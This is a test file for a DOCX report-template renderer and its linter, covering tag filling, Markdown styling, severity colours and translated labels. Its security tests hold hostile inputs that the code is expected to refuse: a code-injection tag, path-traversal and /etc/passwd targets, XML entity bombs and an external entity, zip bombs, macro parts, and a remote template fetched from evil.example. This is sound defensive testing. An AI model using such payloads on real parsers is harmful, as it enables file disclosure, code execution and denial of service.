import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { resolveReportStyle } from '@service/report-model';
import { describeProblem, InvalidTemplateError, lintDocxTemplate, renderTemplateDocx } from '../index.ts';
import { para, templateWithBody } from '../testing/template-fixtures.ts';
import { exampleTemplateParts } from './example-template.ts';
import { readZip, writeZip } from '../zip-archive.ts';
import { SAMPLE_REPORT } from './sample-report.ts';
import { compileTemplate, markdownCache, renderCompiledTemplateWith } from './render-template-docx.ts';
import { parseMarkdownBlocks } from '../markdown-blocks.ts';

const options = { style: resolveReportStyle(null), loadImage: async () => null, now: new Date('2024-03-10T00:00:00Z') };
const documentText = (docx: Uint8Array) =>
  new TextDecoder().decode(
    readZip(docx, { maxEntries: 1000, maxEntryBytes: 1e9, maxTotalBytes: 1e9 }).get('word/document.xml')!,
  );

async function refusal(template: Uint8Array): Promise<InvalidTemplateError> {
  const lint = lintDocxTemplate(template);
  expect(lint.ok).toBe(false);
  const err = await renderTemplateDocx(template, SAMPLE_REPORT, options).catch((e: unknown) => e);
  expect(err).toBeInstanceOf(InvalidTemplateError);
  expect((err as InvalidTemplateError).code).toBe('invalid_template');
  expect((err as InvalidTemplateError).details.length).toBeGreaterThan(0);
  return err as InvalidTemplateError;
}

function withPart(name: string, content: string | Uint8Array) {
  return writeZip([...exampleTemplateParts().filter(([n]) => n !== name), [name, content]]);
}

describe('the example template', () => {
  it('is the one the script builds, passes the linter and lacks no style', () => {
    const shipped = readFileSync(
      new URL('../../../../library/report-styles/word-template-example.docx', import.meta.url),
    );
    expect(Buffer.from(writeZip(exampleTemplateParts())).equals(shipped)).toBe(true);
    expect(lintDocxTemplate(shipped)).toEqual({ ok: true, errors: [], missingStyles: [] });
  });
});

describe('tags', () => {
  it(
    'fill placeholders, loops and conditions, and a tag split over several runs by a ' + 'spell checker still works',
    async () => {
      const split =
        '<w:p><w:r><w:t>Client: {cli</w:t></w:r><w:proofErr ' +
        'w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>en</w:t></w:r><w:proofErr ' +
        'w:type="spellEnd"/><w:r><w:t>t}.</w:t></w:r></w:p>';
      const body = [
        split,
        para('{#findings}'),
        para('{number}: {title} ({severity}){#hasCves} {cveList}{/hasCves}'),
        para('{^impact}No impact given.{/impact}'),
        para('{/findings}'),
      ].join('');
      const out = documentText(await renderTemplateDocx(templateWithBody(body), SAMPLE_REPORT, options));
      expect(out).toContain('Sample Client Ltd.');
      expect(out).toContain('1: SQL injection (High)');
      expect(out).toContain('CVE-2024-0001');
      expect(out).toContain('2: Missing security headers (Low)');
      expect(out.match(/No impact given\./g)).toHaveLength(1);
    },
  );

  it('writes Markdown into the template own styles (headings, lists, code, quote, table style)', async () => {
    const body = [
      para('{#tabs}'),
      para('{@content}'),
      para('{/tabs}'),
      para('{#findings}'),
      para('{@description}'),
      para('{@remediation}'),
      para('{/findings}'),
    ].join('');
    const out = documentText(await renderTemplateDocx(templateWithBody(body), SAMPLE_REPORT, options));
    expect(out).toContain('<w:pStyle w:val="Heading2"/>'); // "# In scope" in a tab becomes Heading 2
    expect(out).toContain('<w:pStyle w:val="Heading3"/>'); // "## Short term" in a finding becomes Heading 3
    expect(out).toContain('<w:pStyle w:val="ListNumber"/>');
    expect(out).toContain('<w:pStyle w:val="Code"/>');
    expect(out).toContain('<w:pStyle w:val="Quote"/>');
    expect(out).toContain('<w:tblStyle w:val="TableGrid"/>');
    expect(out).toContain('<w:rStyle w:val="CodeChar"/>');
  });

  it('parses each Markdown field the template shows once, and builds nothing for fields it does not show', () => {
    const cell = (text: string) => `<w:tc><w:tcPr><w:tcW w:w="4000" w:type="dxa"/></w:tcPr>${para(text)}</w:tc>`;
    const body = [
      para('{#findings}'),
      para('{@description}'),
      para('{descriptionText}'),
      // The same field again, and in a table cell that holds nothing else.
      `<w:tbl><w:tblGrid><w:gridCol w:w="4000"/></w:tblGrid><w:tr>${cell('{@description}')}</w:tr></w:tbl>`,
      para('{/findings}'),
    ].join('');
    const compiled = compileTemplate(templateWithBody(body));
    const parsed: string[] = [];
    const parse = (markdown: string) => {
      parsed.push(markdown);
      return parseMarkdownBlocks(markdown);
    };
    const docx = renderCompiledTemplateWith(compiled, SAMPLE_REPORT, options.style, new Map(), options.now, parse);
    const descriptions = SAMPLE_REPORT.findings.map((f) => f.description);
    expect(parsed.sort()).toEqual([...descriptions].sort());
    const out = documentText(docx);
    expect(out).toContain('Headers are missing.');
    expect(out).not.toContain('Little.');
    expect(out).not.toContain('<!--');
    // The cell keeps the description's paragraphs (a list item among them), and nothing is left of the tag's own paragraph.
    const table = /<w:tbl>[\s\S]*?<\/w:tbl>/.exec(out)![0];
    expect(table).toContain('<w:pStyle w:val="ListNumber"/>');
    expect(table).not.toContain('{@description}');
  });

  it('parses a text that several findings share once', () => {
    const compiled = compileTemplate(
      templateWithBody([para('{#findings}'), para('{@description}'), para('{/findings}')].join('')),
    );
    const [a, b] = SAMPLE_REPORT.findings;
    const report = { ...SAMPLE_REPORT, findings: [a!, b!, { ...b!, title: 'Again' }, a!] };
    const parsed: string[] = [];
    const parse = markdownCache(report, compiled.usedTags, (markdown) => {
      parsed.push(markdown);
      return parseMarkdownBlocks(markdown);
    });
    const out = documentText(
      renderCompiledTemplateWith(compiled, report, options.style, new Map(), options.now, parse),
    );
    expect(parsed.sort()).toEqual([a!.description, b!.description].sort());
    expect(out.match(/Headers are missing\./g)).toHaveLength(2);
  });

  it("numbers figures in document order, and lists a finding's images but those its shown Markdown draws", async () => {
    const sha = (c: string) => c.repeat(64);
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==',
      'base64',
    );
    const first = SAMPLE_REPORT.findings[0]!;
    const report = {
      ...SAMPLE_REPORT,
      summary: `Overview.\n\n![In the summary](evidence:sha256:${sha('a')})`,
      findings: [
        {
          ...first,
          impact: `![In the impact](evidence:sha256:${sha('b')})`,
          evidence: [
            { sha256: sha('b'), fileName: 'drawn.png', caption: 'Drawn above', contentType: 'image/png' as const },
            { sha256: sha('c'), fileName: 'listed.png', caption: 'Only listed', contentType: 'image/png' as const },
          ],
        },
      ],
    };
    // The template shows the finding before the summary; the first time not the impact, which draws an image.
    const body = [
      para('{#findings}'),
      para('{@description}'),
      para('{#evidence}'),
      para('{caption}'),
      para('{/evidence}'),
      para('{/findings}'),
      para('{@summary}'),
    ].join('');
    const render = async (template: string) =>
      documentText(
        await renderTemplateDocx(templateWithBody(template), report, { ...options, loadImage: async () => png }),
      );
    const out = await render(body);
    expect(out).toContain('Only listed');
    // The impact is not shown, so its image is listed (and numbers no figure).
    expect(out).toContain('Drawn above');
    expect(out).toMatch(/Figure 1: <\/w:t>[\s\S]*In the summary/);
    const withImpact = await render(body.replace(para('{@description}'), para('{@description}') + para('{@impact}')));
    expect(withImpact).toContain('Only listed');
    expect(withImpact).not.toContain('Drawn above');
    // Figures are numbered as they come in the document.
    expect(withImpact).toMatch(/Figure 1: <\/w:t>[\s\S]*In the impact[\s\S]*Figure 2: <\/w:t>[\s\S]*In the summary/);
  });

  it('keeps text that looks like XML or Word markup literal', async () => {
    const nasty = 'A </w:t><w:p> & ]]> <w:r><w:t>x</w:t></w:r> {title}';
    const report = {
      ...SAMPLE_REPORT,
      title: nasty,
      findings: [{ ...SAMPLE_REPORT.findings[0]!, description: nasty }],
    };
    const out = documentText(
      await renderTemplateDocx(
        templateWithBody(para('{title}') + para('{#findings}') + para('{@description}') + para('{/findings}')),
        report,
        options,
      ),
    );
    expect(out).toContain(
      'A &lt;/w:t&gt;&lt;w:p&gt; &amp; ]]&gt; &lt;w:r&gt;&lt;w:t&gt;x&lt;/w:t&gt;&lt;/w:r&gt; {title}',
    );
    expect(out).not.toContain('<w:p> &');
  });

  it('cannot run code: expressions are refused, names are only looked up, and the linter lists each', async () => {
    const g = globalThis as { pwned?: boolean };
    const body = [
      para('Before {constructor.constructor("globalThis.pwned = true")()} after'),
      para('{__proto__}'),
      para('{#constructor}x{/constructor}'),
      para('{toString}'),
    ].join('');
    const lint = lintDocxTemplate(templateWithBody(body));
    expect(lint.ok).toBe(false);
    expect(lint.errors.map((e) => e.tag)).toEqual([
      'constructor.constructor("globalThis.pwned = true")()',
      '__proto__',
      '#constructor',
      'toString',
    ]);
    expect(lint.errors[0]!.paragraph).toBe('Before {constructor.constructor("globalThis.pwned = true")()} after');
    expect(lint.errors[0]!.message).toMatch(/expression.*not run here/);
    expect(lint.errors[1]!.message).toMatch(/unknown tag/);
    await refusal(templateWithBody(body));
    expect(g.pwned).toBeUndefined();
  });

  it(
    'refuses loops over an outer list (which would multiply the document), raw tags ' +
      'on plain text and plain tags on Markdown',
    () => {
      const body = [
        para('{#findings}'),
        para('{#findings}{title}{/findings}'),
        para('{/findings}'),
        para('{@title}'),
        para('{#findings}'),
        para('{description}'),
        para('{/findings}'),
        para('{#tabs}{#findings}{/findings}{/tabs}'),
      ].join('');
      const lint = lintDocxTemplate(templateWithBody(body));
      expect(lint.errors.map((e) => [e.tag, e.message.slice(0, 30)])).toEqual([
        ['#findings', 'the loop over "findings" belon'],
        ['@title', '"title" is plain text: write {'],
        ['description', '"description" is Markdown or a'],
        ['#findings', 'the loop over "findings" belon'],
      ]);
    },
  );

  it('lists every syntax error (unclosed, unbalanced loops, raw tag not alone) with its paragraph', () => {
    const body = [
      para('Dear {client'),
      para('{#findings}{title}{/tabs}'),
      para('Text {@summary}'),
      para('{#links}'),
    ].join('');
    const lint = lintDocxTemplate(templateWithBody(body));
    expect(lint.ok).toBe(false);
    expect(lint.errors.length).toBeGreaterThanOrEqual(3);
    expect(lint.errors.find((e) => /not closed/i.test(e.message))?.paragraph).toBe('Dear {client');
    expect(lint.errors.find((e) => /only text in its paragraph/.test(e.message))?.paragraph).toBe('Text {@summary}');
    expect(lint.errors.some((e) => /closed by the tag "tabs"|tabs/.test(e.message))).toBe(true);
  });

  it('lists the named styles a template lacks, separately from errors', () => {
    const parts = exampleTemplateParts().map(
      ([n, c]) =>
        [
          n,
          n === 'word/styles.xml'
            ? c.replace(/<w:style [^>]*w:styleId="(Code|Quote|TableGrid)"[\s\S]*?<\/w:style>/g, '')
            : c,
        ] as [string, string],
    );
    const lint = lintDocxTemplate(writeZip(parts));
    expect(lint.ok).toBe(true);
    expect(lint.missingStyles).toEqual(['Code', 'Quote', 'Table Grid']);
  });
});

describe('the linter', () => {
  it('reports every problem in one pass, each with its part, paragraph number and text, and a near name', () => {
    const body = [
      para('Cover'),
      para('Dear {client'), // 2: not closed
      para('{#findings}'),
      para('{titel} and {severty}'), // 4: two near misses
      para('{#findings}{title}{/findings}'), // 5: a loop over an outer list
      para('{/findings}'),
      para('Text {@summary}'), // 7: a raw tag that is not alone
      para('{#links}{title}'), // 8: never closed
      para('A stray } here'), // 9
    ].join('');
    const header =
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
      `${para('{headerTxt}')}</w:hdr>`;
    const parts = exampleTemplateParts().map(([n, c]) =>
      n === 'word/document.xml'
        ? ([n, c.replace(/<w:body>[\s\S]*?(<w:sectPr>)/, `<w:body>${body}$1`)] as [string, string])
        : n === 'word/header1.xml'
          ? ([n, header] as [string, string])
          : n === 'word/styles.xml'
            ? ([n, c.replace(/<w:style [^>]*w:styleId="Code"[\s\S]*?<\/w:style>/, '')] as [string, string])
            : ([n, c] as [string, string]),
    );
    const lint = lintDocxTemplate(writeZip(parts));
    expect(lint.ok).toBe(false);
    expect(lint.missingStyles).toEqual(['Code']);
    const described = lint.errors.map((e) => describeProblem(e));
    const find = (re: RegExp) => lint.errors.find((e) => re.test(describeProblem(e)));
    expect(find(/not closed: "\{client"/)).toMatchObject({
      part: 'body',
      paragraphNumber: 2,
      paragraph: 'Dear {client',
    });
    expect(find(/"titel".*did you mean \{title\}/)).toMatchObject({ part: 'body', paragraphNumber: 4 });
    expect(find(/"severty".*did you mean \{severity\}/)).toMatchObject({ paragraphNumber: 4 });
    expect(find(/loop over "findings" belongs/)).toMatchObject({ paragraphNumber: 5 });
    expect(find(/only text in its paragraph/)).toMatchObject({ paragraphNumber: 7, paragraph: 'Text {@summary}' });
    expect(find(/\{#links\} is never closed/)).toMatchObject({ paragraphNumber: 8 });
    expect(find(/closes no tag/)).toMatchObject({ paragraphNumber: 9 });
    expect(find(/"headerTxt".*did you mean \{headerText\}/)).toMatchObject({
      part: 'header (header1.xml)',
      paragraphNumber: 1,
    });
    expect(described.length).toBe(8);
    expect(described[0]).toMatch(/^\{client\}: this tag is not closed.* \(body, paragraph 2: "Dear \{client"\)$/);
  });

  it('says in one message that a template is written in Jinja2, as Ghostwriter uses it', () => {
    const body = [
      para('{{ client.name }} – {{ report_date }}'),
      para('{%p for finding in findings %}'),
      para('{{ finding.title }} {{ finding.severity_rt }}'),
      para('{{p finding.description_rt }}'),
      para('{%p endfor %}'),
    ].join('');
    const lint = lintDocxTemplate(templateWithBody(body));
    expect(lint.errors).toHaveLength(1);
    expect(lint.errors[0]!.message).toMatch(/Jinja2.*Ghostwriter.*\{client\}.*Moving from Ghostwriter/);
    expect(lint.errors[0]!).toMatchObject({ part: 'body', paragraphNumber: 1 });
  });

  it('says once that a template uses expression filters, as pwndoc-ng does, and sums up its other names', () => {
    const body = [
      para('{name} for {company.name}, {date_start | convertDateLocale: "de-DE":"short"}'),
      para('{#findings}'),
      para('{identifier | changeID: "PROJ-"} {title} {cvssSeverity} {vulnType}'),
      para('{@description | convertHTML}'),
      para('{/findings}'),
      para('{findings | count: "Critical"}'),
    ].join('');
    const lint = lintDocxTemplate(templateWithBody(body));
    const messages = lint.errors.map((e) => e.message);
    expect(messages).toHaveLength(2);
    expect(messages[0]).toMatch(/^4 tags are expressions .*pwndoc-ng.*Moving from pwndoc-ng/);
    expect(messages[1]).toMatch(/^4 more tags name fields this service does not have \(\{name\}, \{company\.name\}/);
  });

  it('refuses relationships that leave the package or point outside it, at upload and at render', async () => {
    const rels = (target: string, mode = '') =>
      withPart(
        'word/_rels/document.xml.rels',
        exampleTemplateParts()
          .find(([n]) => n === 'word/_rels/document.xml.rels')![1]
          .replace(
            '</Relationships>',
            `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${target}"${mode}/></Relationships>`,
          ),
      );
    for (const target of [
      '../../../../etc/passwd',
      'media/../../../x.png',
      '%2e%2e/%2e%2e/x',
      'file:///etc/passwd',
      '\\\\server\\share\\x.png',
    ]) {
      const err = await refusal(rels(target));
      expect(err.details.map((d) => d.message).join(' '), target).toMatch(
        /outside the document|not a part of the document/,
      );
    }
    const external = await refusal(rels('https://tracker.example/p.png', ' TargetMode="External"'));
    expect(external.message).toMatch(/external image/);
    expect(lintDocxTemplate(rels('media/logo.png')).ok).toBe(true);
  });
});

describe('labels in the report language', () => {
  it('fill label tags and translated values from the catalogue, for English and German reports', async () => {
    const body = [
      para('{label.findings}: {findingCount} | {label.summaryOfFindings} | {label.contents}'),
      para('{#findings}{label.severity}: {severity}; {label.status}: {status}; {label.cvss} {cvssScore}{/findings}'),
      para('{label.severity.critical}/{label.status.accepted-risk}/{label.reportStatus.final}: {status}'),
      para('{label.affectedAssets}, {label.description}, {label.page} 1 {label.of} 2'),
    ].join('');
    const render = async (language: string) =>
      documentText(await renderTemplateDocx(templateWithBody(body), { ...SAMPLE_REPORT, language }, options));
    const en = await render('en');
    expect(en).toContain('Findings: 2 | Summary of findings | Contents');
    expect(en).toContain('Severity: High; Status: Open; CVSS 9.8');
    expect(en).toContain('Critical/Accepted risk/Final: Draft');
    expect(en).toContain('Affected assets, Description, Page 1 of 2');
    const de = await render('de-DE');
    expect(de).toContain('Befunde: 2 | Übersicht der Befunde | Inhalt');
    expect(de).toContain('Schweregrad: Hoch; Status: Offen; CVSS 9,8');
    expect(de).toContain('Kritisch/Risiko akzeptiert/Final: Entwurf');
    expect(de).toContain('Betroffene Systeme, Beschreibung, Seite 1 von 2');
  });

  it('fill the example template in German, with its contents written out and Word asked to update fields', async () => {
    const shipped = readFileSync(
      new URL('../../../../library/report-styles/word-template-example.docx', import.meta.url),
    );
    const out = await renderTemplateDocx(shipped, { ...SAMPLE_REPORT, language: 'de' }, options);
    const doc = documentText(out);
    for (const word of ['Inhalt', 'Kunde', 'Befunde im Überblick', 'Gesamt', 'Schweregrad', 'Nachweise'])
      expect(doc, word).toContain(`${word}</w:t>`);
    // The contents field holds one entry per heading until Word or the PDF export adds the pages.
    const field = doc.slice(doc.indexOf('TOC \\o'), doc.indexOf('w:fldCharType="end"', doc.indexOf('TOC \\o')));
    for (const entry of [
      'Zusammenfassung',
      'Scope',
      'Befunde im Überblick',
      '1. SQL injection',
      '2. Missing security headers',
    ])
      expect(field, entry).toContain(`>${entry}</w:t>`);
    expect(field).not.toContain('Contents');
    const settings = new TextDecoder().decode(
      readZip(out, { maxEntries: 1000, maxEntryBytes: 1e9, maxTotalBytes: 1e9 }).get('word/settings.xml')!,
    );
    expect(settings).toMatch(/<w:updateFields w:val="true"\/><w:compat>/);
  });
});

describe('severity colours', () => {
  const cellOf = (xml: string, text: string) => {
    const at = xml.indexOf(`>${text}</w:t>`);
    return xml.slice(xml.lastIndexOf('<w:tc>', at), xml.indexOf('</w:tc>', at));
  };
  const paragraphOf = (xml: string, text: string) => {
    const at = xml.indexOf(text);
    return xml.slice(xml.lastIndexOf('<w:p>', at), xml.indexOf('</w:p>', at));
  };

  it('shade a table cell or a paragraph, or colour text, with the severity colours of the style', async () => {
    const row = (cells: string[]) =>
      `<w:tr>${cells.map((c) => `<w:tc><w:tcPr><w:tcW w:w="2000" w:type="dxa"/><w:vAlign w:val="center"/></w:tcPr>${para(c)}</w:tc>`).join('')}</w:tr>`;
    const body = [
      `<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="2000"/><w:gridCol w:w="2000"/></w:tblGrid>`,
      row(['{#findings}{shadeCell}{title}', '{severity}{/findings}']),
      '</w:tbl>',
      para('{#findings}'),
      `<w:p><w:pPr><w:pStyle w:val="Heading2"/><w:jc w:val="left"/></w:pPr><w:r><w:rPr><w:b/><w:sz w:val="28"/></w:rPr><w:t xml:space="preserve">{shadeParagraph}Heading {number}</w:t></w:r></w:p>`,
      para('Before the tag {colorText}score {cvssScore}'),
      para('{/findings}'),
      para('{#severities}'),
      para('{shadeParagraph}{severity}: {count}'),
      para('{/severities}'),
    ].join('');
    const style = resolveReportStyle({ name: 'Acme', severityColors: { high: '#AA0000', low: '#FFEE58' } });
    const xml = documentText(await renderTemplateDocx(templateWithBody(body), SAMPLE_REPORT, { ...options, style }));
    expect(xml).not.toMatch(/[\uE000\uE001]/);
    // A cell: shading in schema order (after tcW, before vAlign), text in white on dark red.
    const high = cellOf(xml, 'SQL injection');
    expect(high).toContain(
      '<w:tcPr><w:tcW w:w="2000" w:type="dxa"/><w:shd w:val="clear" w:color="auto" w:fill="AA0000"/><w:vAlign',
    );
    expect(high).toContain('<w:color w:val="FFFFFF"/>');
    expect(cellOf(xml, 'Missing security headers')).toContain('w:fill="FFEE58"');
    expect(cellOf(xml, 'Missing security headers')).toContain('<w:color w:val="1A1A1A"/>');
    expect(cellOf(xml, 'High')).not.toContain('w:shd');
    // A paragraph: shading before jc, its run coloured for contrast before its size.
    const heading = paragraphOf(xml, 'Heading 1');
    expect(heading).toContain('<w:pStyle w:val="Heading2"/><w:shd w:val="clear" w:color="auto" w:fill="AA0000"/><w:jc');
    expect(heading).toContain('<w:rPr><w:b/><w:color w:val="FFFFFF"/><w:sz w:val="28"/></w:rPr>');
    // Text: the run holding the tag and those after it take the severity colour.
    expect(paragraphOf(xml, 'score 9.8')).toContain('<w:color w:val="AA0000"/>');
    expect(paragraphOf(xml, 'Critical: 0')).toContain(`w:fill="${style.severityColors.critical.slice(1)}"`);
  });

  it('are known to the linter inside findings and severities only', () => {
    expect(
      lintDocxTemplate(templateWithBody(para('{#findings}{shadeCell}{colorText}{shadeParagraph}{/findings}'))).ok,
    ).toBe(true);
    const outside = lintDocxTemplate(templateWithBody(para('{shadeCell}')));
    expect(outside.ok).toBe(false);
    expect(outside.errors[0]!.message).toMatch(/unknown tag "shadeCell"/);
  });
});

describe('untrusted template files', () => {
  it('refuses a file over the size cap', async () => {
    const err = await refusal(new Uint8Array(11 * 1024 * 1024));
    expect(err.message).toMatch(/at most 10 MB/);
  });

  it('refuses what is not a zip, and a zip without word/document.xml', async () => {
    await refusal(new TextEncoder().encode('not a zip at all'));
    const err = await refusal(writeZip(exampleTemplateParts().filter(([n]) => n !== 'word/document.xml')));
    expect(err.message).toMatch(/word\/document\.xml/);
  });

  it('refuses a zip bomb from its declared size, before inflating', async () => {
    const err = await refusal(withPart('word/media/bomb.bin', new Uint8Array(200 * 1024 * 1024)));
    expect(err.message).toMatch(/unpacks to/);
  });

  it('refuses an entry that inflates to more than its header says', async () => {
    const zip = withPart('word/big.xml', 'x'.repeat(100_000));
    // Lower the declared size of the last entry in the central directory.
    const buf = Buffer.from(zip);
    const cd = buf.lastIndexOf(Buffer.from('word/big.xml')) - 46;
    buf.writeUInt32LE(1000, cd + 24);
    const err = await refusal(new Uint8Array(buf));
    expect(err.message).toMatch(/declared size|not the 1000/);
  });

  it('refuses too many entries', async () => {
    const many = Array.from({ length: 600 }, (_, i) => [`word/x${i}.txt`, 'x'] as [string, string]);
    const err = await refusal(writeZip([...exampleTemplateParts(), ...many]));
    expect(err.message).toMatch(/609 entries/);
  });

  it.each([['../evil.xml'], ['/etc/passwd'], ['word/../../evil.xml'], ['C:/evil.xml']])(
    'refuses the entry name %s',
    async (name) => {
      const err = await refusal(withPart(name, '<x/>'));
      expect(err.details.some((d) => d.message.includes(name))).toBe(true);
    },
  );

  it('refuses DOCTYPE and ENTITY declarations in any XML part (no entity expansion, ever)', async () => {
    const bomb =
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 ' +
      '"&lol;&lol;&lol;">]><w:styles xmlns:w="x">&lol2;</w:styles>';
    const err = await refusal(withPart('word/styles.xml', bomb));
    expect(err.message).toMatch(/DOCTYPE or entities/);
    await refusal(
      withPart(
        'word/_rels/document.xml.rels',
        '<?xml version="1.0"?><!ENTITY x SYSTEM "file:///etc/passwd"><Relationships/>',
      ),
    );
  });

  it('refuses a UTF-16 XML part (it could hide a DOCTYPE)', async () => {
    const utf16 = Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>', 'utf16le');
    const err = await refusal(withPart('word/styles.xml', new Uint8Array(utf16)));
    expect(err.message).toMatch(/not UTF-8/);
  });

  it('refuses macros: vbaProject.bin and macro-enabled content types', async () => {
    await refusal(withPart('word/vbaProject.bin', new Uint8Array([1, 2, 3])));
    const types = exampleTemplateParts()
      .find(([n]) => n === '[Content_Types].xml')![1]
      .replace('document.main+xml', 'document.macroEnabled.main+xml');
    const err = await refusal(withPart('[Content_Types].xml', types));
    expect(err.message).toMatch(/macro-enabled/);
  });

  it('refuses external relationships other than hyperlinks (remote template injection)', async () => {
    const rels =
      '<?xml version="1.0"?><Relationships ' +
      'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship ' +
      'Id="r1" ' +
      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
      'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    const err = await refusal(withPart('word/_rels/settings.xml.rels', rels));
    expect(err.message).toMatch(/external attachedTemplate/);
  });

  it('refuses an encrypted or damaged zip with a message, not a crash', async () => {
    const zip = Buffer.from(writeZip(exampleTemplateParts()));
    zip.writeUInt16LE(1, zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 8);
    expect((await refusal(new Uint8Array(zip))).message).toMatch(/encrypted/);
    expect(deflateRawSync(Buffer.from('x')).length).toBeGreaterThan(0);
  });
});
